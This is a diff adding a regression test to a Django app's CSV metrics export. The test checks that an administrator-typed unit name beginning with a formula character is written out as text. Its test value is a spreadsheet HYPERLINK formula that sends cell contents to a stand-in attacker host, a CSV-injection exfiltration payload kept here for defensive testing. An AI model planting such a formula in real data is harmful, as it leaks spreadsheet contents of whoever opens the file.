@@ -127,6 +127,22 @@ def test_csv_export_has_figures_and_no_personal_data(client, org, month):
         assert d.code not in body and d.applicant_name not in body
 
 
+def test_csv_export_writes_a_unit_name_that_would_open_as_a_formula_as_text(client, org,
+                                                                           month):
+    """A unit's name is typed by an administrator; opened in a spreadsheet, a name that begins
+    with = + - @ ran as a formula on the reader's computer (motcua/spreadsheets.py)."""
+    name = '=HYPERLINK("http://ke-gian.example/?"&A2,"Xem")'
+    org.dept.name = name
+    org.dept.save(update_fields=["name"])
+    c = _login(client, org.head)
+    body = c.get(reverse("metrics:export_csv") + f"?don-vi={org.dept.code}&{MARCH}") \
+        .content.decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert rows and {r["ten_don_vi"] for r in rows} == {"'" + name}
+    dept = {r["ma_chi_so"]: r["gia_tri"] for r in rows}
+    assert dept["received"] == "7"  # figures stay figures
+
+
 def test_json_api_with_token(org, month):
     api = APIClient()
     assert api.get("/api/v1/metrics/").status_code in (401, 403)
